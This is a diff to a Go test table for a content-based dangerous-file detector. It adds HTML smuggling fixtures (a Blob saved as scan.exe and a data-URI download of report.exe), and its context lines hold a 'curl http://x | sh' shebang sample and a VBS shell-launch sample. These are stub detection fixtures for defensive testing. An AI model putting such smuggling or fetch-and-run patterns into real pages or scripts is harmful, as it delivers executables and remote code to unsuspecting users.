@@ -154,6 +154,8 @@ func TestDangerousByContent(t *testing.T) {
 		{"zipped PE", "application/zip", "docs.zip", zipOf(t, map[string][]byte{"invoice.pdf": minimalPE(t)}), Executable},
 		{"nested zip PE", "application/zip", "docs.zip", zipOf(t, map[string][]byte{"inner.zip": zipOf(t, map[string][]byte{"a/readme": minimalPE(t)})}), Executable},
 		{"HTML smuggling", "text/html", "invoice.html", smuggle, HTMLSmuggling},
+		{"HTML smuggling, Blob only", "text/html", "scan.htm", []byte(`<html><script>var b=new Blob([new Uint8Array([77,90,144])]);navigator.msSaveOrOpenBlob(b,"scan.exe")</script></html>`), HTMLSmuggling},
+		{"HTML smuggling, data URI", "application/octet-stream", "x.html", []byte(`<html><body><a href="data:application/octet-stream;base64,TVqQAA==" download="report.exe">Open</a></body></html>`), HTMLSmuggling},
 		{"HTA", "text/html", "form.htm", hta, HTA},
 		{"shebang", "text/plain", "install.txt", []byte("#!/bin/sh\ncurl http://x | sh\n"), Script},
 		{"vbs by content", "text/plain", "readme.txt", []byte(`Set o = CreateObject("WScript.Shell")` + "\r\no.Run \"cmd\"\r\n"), Script},
